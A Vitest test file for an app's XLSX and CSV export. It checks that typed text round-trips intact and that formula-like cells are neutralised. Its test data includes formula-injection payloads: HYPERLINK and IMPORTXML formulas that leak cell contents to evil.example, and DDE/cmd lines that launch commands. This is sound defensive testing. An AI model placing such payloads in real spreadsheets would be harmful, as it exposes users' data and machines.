import { describe, expect, it } from "vitest";
import { personOf } from "@/lib/domain/people/person";
import { getTool, keyOf } from "@/tests/support/tools";
import type { ExportDocument } from "@/lib/exports/document/export-document";
import { CELL_MAX_LENGTH } from "@/lib/exports/sheets/long-cells";
import { renderCsv, renderXlsx } from "@/lib/exports/sheets/render-sheets";
import { csvText, looksLikeFormula } from "@/lib/exports/sheets/cell-text.mjs";
import type { Answers } from "@/lib/domain/answer/answers";
import { toolItems } from "@/lib/domain/tool/items";
import { exportOf, namesAsIds, toolReport } from "../samples/export-samples";
import { ANSWER_MAX_LENGTH, TABLE_MAX_ROWS } from "@/lib/domain/limits";
import { readCsvZip, readXlsx, rowsOf, unzipTexts } from "./read-sheets";

const TABLE = "t13-questions";

function exportWith(answers: Answers, name = "Dana Whitfield"): ExportDocument {
  const records = Object.fromEntries(
    Object.entries(answers).map(([id, answer]) => [id, { answer, by: personOf(name), at: "2026-11-14T20:00:00Z" }]),
  );
  return exportOf([toolReport(getTool(13), answers)], { records, about: { agencyName: name, teamName: name, exportedBy: personOf(name) } });
}

/** The texts as the cells of one column of Tool 13's table. */
function tableOf(texts: readonly string[]): Answers {
  return { [TABLE]: texts.map((question, index) => ({ id: `r${index}`, cells: { question } })) };
}

async function readBack(texts: readonly string[]) {
  const document = exportWith(tableOf(texts));
  const [xlsx, csv] = [await renderXlsx(document), await renderCsv(document)];
  const column = "Evaluation Questions";
  return {
    xlsx: rowsOf(await readXlsx(xlsx.bytes), "Indicators").map((row) => row[column]),
    csv: rowsOf(readCsvZip(csv.bytes), "indicators.csv").map((row) => row[column]),
    parts: unzipTexts(xlsx.bytes),
    notShown: [xlsx.notShown, csv.notShown],
  };
}

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  '"=1+1',
  "'=1+1",
  "“=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  '","=1+1',
  '"\r\n=1+1',
  "{=1+1}",
  "- a point of a list",
];

describe("formulas that somebody typed", () => {
  it("come back from the workbook as the text they are, and no cell computes", async () => {
    const { xlsx, parts } = await readBack(FORMULAS);
    // A line ends in Excel with a line feed.
    expect(xlsx).toEqual(FORMULAS.map((text) => text.replace(/\r\n?/g, "\n")));
    for (const [path, xml] of parts) expect(xml, path).not.toMatch(/<f[\s>/]/);
    const [sheet] = [...parts].filter(([path]) => path.startsWith("xl/worksheets/sheet")).slice(-1);
    expect(sheet?.[1].match(/<c r="C\d+"[^>]*>/g)?.every((cell) => cell.includes('t="s"'))).toBe(true);
  });

  it("begin with an apostrophe in CSV, and no cell begins as a formula", async () => {
    const { csv } = await readBack(FORMULAS);
    expect(csv).toEqual(FORMULAS.map((text) => (looksLikeFormula(text) ? `'${text}` : text)));
    const harmless = ["“=1+1", '","=1+1', "{=1+1}"];
    expect(FORMULAS.filter((text) => !looksLikeFormula(text))).toEqual(harmless);
  });

  it("are no formula in the middle of a text, and numbers are left alone", () => {
    for (const text of ["a = b", "2 + 2", "mail@example.org", "10-12", "5", "", "Yes"]) expect(csvText(text)).toBe(text);
  });

  it("may stand in every name", async () => {
    const name = '=HYPERLINK("http://evil.example")';
    const document = exportWith({ "t13-goal": "Goal" }, name);
    const about = rowsOf(readCsvZip((await renderCsv(document)).bytes), "about.csv");
    expect(about.find((row) => row["What"] === "Agency")?.["Value"]).toBe(`'${name}`);
    const answers = rowsOf(await readXlsx((await renderXlsx(document)).bytes), "Answers");
    expect(answers.find((row) => row["Item id"] === "t13-goal")?.["Last changed by"]).toBe(name);
  });
});

describe("text that a file could trip over", () => {
  const TEXTS = [
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "_x000D_",
    "_x0041_x0042_",
    "_x0041\ufffd",
    "_x005F_x0041_",
    "</t></si><f>1+1</f>",
    "<![CDATA[ ]]> &amp; &#61; \"quotes\" 'and'",
    "  spaces before and after  ",
    "line\nbreaks\n\nin it\n",
    "comma, semicolon; tab\tpipe|",
    '"',
    "我们每周开会 נפגשים نحن 👩🏽‍🚒 é e\u0301 \u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
    "\u200d\u200c\u00ad\u2028\u2029\u0085",
    "\u0080\u009f\ufdd0\u{1fffe}\u{10ffff}",
    "00123",
    "1e5",
    "TRUE",
    "2026-03-31",
    "#REF!",
  ];

  it("comes back from both as it was typed", async () => {
    const { xlsx, csv, notShown } = await readBack(TEXTS);
    expect(xlsx).toEqual(TEXTS);
    expect(csv).toEqual(TEXTS);
    expect(notShown).toEqual([0, 0]);
  });

  it("keeps every character of the Basic Multilingual Plane, or shows that it has no place and counts it", async () => {
    const units = Array.from({ length: 0x10000 }, (_, unit) => unit);
    const texts = Array.from({ length: 256 }, (_, page) =>
      units.slice(page * 256, page * 256 + 256).map((unit) => `${String.fromCharCode(unit)}.`).join(""),
    );
    const forbidden = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ud800-\udfff]/gu;
    const count = texts.reduce((sum, text) => sum + (text.match(forbidden)?.length ?? 0), 0);
    const { xlsx, csv, notShown } = await readBack(texts);
    const shown = texts.map((text) => text.replace(forbidden, "\ufffd"));
    expect(xlsx).toEqual(shown.map((text) => text.replace(/\r\n?/g, "\n")));
    expect(csv).toEqual(shown.map((text) => csvText(text)));
    // Each stands on two sheets: "Table rows" and "Indicators".
    expect(notShown).toEqual([count * 2, count * 2]);
  });

  it("is told of in About when it could not be shown", async () => {
    const { bytes } = await renderXlsx(exportWith({ "t13-goal": "a\u0000b\ud800c" }));
    const sheets = await readXlsx(bytes);
    expect(rowsOf(sheets, "About").at(-1)?.["Value"]).toContain("2 characters could not be shown (U+0000, U+D800).");
    expect(rowsOf(sheets, "Answers").find((row) => row["Item id"] === "t13-goal")?.["Answer"]).toBe("a\ufffdb\ufffdc");
  });

  it("writes a day before Excel's calendar as text, and leaves it a date in CSV", async () => {
    const answers: Answers = { "t8-s2-1": "0987-06-05" };
    const records = { "t8-s2-1": { answer: "0987-06-05", by: personOf("Dana"), at: "2026-11-14T20:00:00Z" } };
    const document = exportOf([toolReport(getTool(8), answers)], { records });
    const row = rowsOf(await readXlsx((await renderXlsx(document)).bytes), "Answers").find(
      (answer) => answer["Item id"] === "t8-s2-1",
    );
    expect(row?.["Date"]).toBe("0987-06-05");
  });
});

describe("a lot of text", () => {
  it("keeps every cell of a table with 500 rows", async () => {
    const ids = ["question", "indicators", "sources", "timeframe"];
    const rows = Array.from({ length: TABLE_MAX_ROWS }, (_, row) => ({
      id: `r${row}`,
      cells: Object.fromEntries(ids.map((id) => [id, `${id} ${row} ${"words ".repeat(100)}end`])),
    }));
    const document = exportWith({ [TABLE]: rows });
    const sheets = await readXlsx((await renderXlsx(document)).bytes);
    expect(rowsOf(sheets, "Indicators").map((row) => Object.values(row).slice(2))).toEqual(rows.map(({ cells }) => Object.values(cells)));
    expect(rowsOf(sheets, "Table rows").map((row) => row["Answer"])).toEqual(rows.flatMap(({ cells }) => Object.values(cells)));
  });

  it("keeps the longest answer in every item", async () => {
    const long = Array.from({ length: ANSWER_MAX_LENGTH / 10 }, (_, index) => `w${String(index).padStart(8, "0")} `).join("");
    const answers = Object.fromEntries(toolItems(getTool(13)).filter(({ kind }) => kind === "text").map(({ id }) => [id, long]));
    const document = exportWith(answers);
    for (const rows of [
      rowsOf(await readXlsx((await renderXlsx(document)).bytes), "Answers"),
      rowsOf(readCsvZip((await renderCsv(document)).bytes), "answers.csv"),
    ]) {
      expect(rows.filter((row) => row["Answer"] === long)).toHaveLength(Object.keys(answers).length);
    }
  });

  it("goes on in columns of its own where one cell cannot hold it", async () => {
    const row = (index: number) => ({ id: `r${index}`, cells: { question: "🚒".repeat(9_999) } });
    const change = {
      kind: "answer" as const,
      itemId: TABLE,
      before: null,
      after: [0, 1, 2, 3].map(row),
      isRestore: false,
      by: personOf("Dana"),
      at: "2026-11-14T20:00:00Z",
    };
    const document = { ...exportWith({}), history: new Map([[keyOf(13), [change]]]), people: namesAsIds(change) };
    const [history] = rowsOf(await readXlsx((await renderXlsx(document)).bytes), "History");
    const parts = ["After", "After (2)", "After (3)"].map((label) => String(history?.[label]));
    expect(Object.keys(history ?? {})).not.toContain("After (4)");
    expect(parts.every((part) => part.length <= CELL_MAX_LENGTH && part.isWellFormed())).toBe(true);
    expect(parts.join("")).toBe(change.after.map(({ cells }) => `Evaluation Questions: ${cells.question}`).join("\n"));
  });
});
